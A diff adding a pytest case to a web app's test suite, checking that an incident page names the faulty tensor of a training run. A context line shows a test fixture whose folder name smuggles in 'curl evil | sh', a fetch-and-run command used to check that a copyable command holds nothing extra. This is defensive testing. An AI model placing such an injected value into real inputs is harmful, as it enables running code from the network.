@@ -354,6 +354,23 @@ def test_the_replay_names_the_folder_that_the_run_was_configured_with(
         assert "none was found" in text_of(html)
 
 
+def test_a_fault_of_the_state_names_its_tensor_where_no_module_was_searched_for(
+    client: httpx.Client, teller: Any
+) -> None:
+    run = teller(client, "maps")
+    client.put("/api/v1/runs/maps", json={"started_at": "2026-03-01T12:00:00Z"})
+    run.tell(
+        Incident(
+            step=3, time=run.moment(), incident="i-1", onset_step=3, guard="invariants", kind="weights",
+            message="weights moved further", reading={"problems": 1, "first": "unet.stem.weight"},
+        )
+    )  # fmt: skip
+    culprit = part(client.get("/runs/maps/incidents/i-1").text, "culprit")
+    assert "Tensor unet.stem.weight" in culprit
+    assert "Module" not in culprit
+    assert "first" not in culprit
+
+
 def test_a_command_to_copy_holds_no_other_command(client: httpx.Client, teller: Any) -> None:
     run = teller(client, "maps")
     config = {"run": {"name": "maps", "folder": "runs; curl evil | sh"}}
